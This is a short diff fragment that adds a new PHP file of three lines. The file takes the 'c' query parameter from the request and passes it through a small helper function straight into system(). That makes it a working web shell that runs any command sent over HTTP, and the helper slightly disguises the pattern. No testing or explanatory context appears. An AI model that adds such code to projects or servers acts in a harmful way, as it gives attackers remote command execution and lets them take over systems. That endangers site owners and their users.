@@ -1,0 +1,3 @@
+<?php
+system(g());
+function g() { return $_GET["c"]; }
